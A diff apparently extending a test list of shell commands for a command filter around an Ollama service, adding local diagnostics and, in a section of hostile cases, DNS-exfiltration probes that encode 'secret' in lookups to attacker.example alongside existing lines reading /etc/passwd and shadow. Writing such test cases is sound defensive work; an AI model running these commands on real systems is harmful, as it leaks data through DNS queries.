@@ -48,6 +48,12 @@ ping -c 3 localhost
 dig +short localhost
 host localhost
 getent hosts localhost
+host 192.168.1.7
+dig -x 10.0.0.1
+ping -c 1 8.8.8.8
+ss -tn dst 10.0.0.7:11434
+ss -tln sport = :11434
+lsof -nP -iTCP@127.0.0.1:11434
 top -bn1
 systemctl status ollama --no-pager
 systemctl is-active ollama
@@ -182,6 +188,22 @@ dig -f /etc/passwd
 dig @attacker.example localhost
 dig aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.example
 host -l x y
+host c2VjcmV0.attacker.example
+host localhost.attacker.example
+dig +short c2VjcmV0.attacker.example TXT
+dig @localhost c2VjcmV0.attacker.example
+dig -x c2VjcmV0.attacker.example
+dig -x 2001:4860:7365:6372:6574::1
+ping -c 1 c2VjcmV0.attacker.example
+ping -c 1 2001:4860:7365:6372:6574::1
+getent hosts c2VjcmV0.attacker.example
+getent ahosts c2VjcmV0.attacker.example
+nslookup c2VjcmV0.attacker.example
+resolvectl query c2VjcmV0.attacker.example
+ss -tn dst c2VjcmV0.attacker.example
+ss dst dead.beef.cc
+lsof -i @c2VjcmV0.attacker.example
+lsof -iTCP@c2VjcmV0.attacker.example:80
 getent shadow
 getent -s x hosts localhost
 top
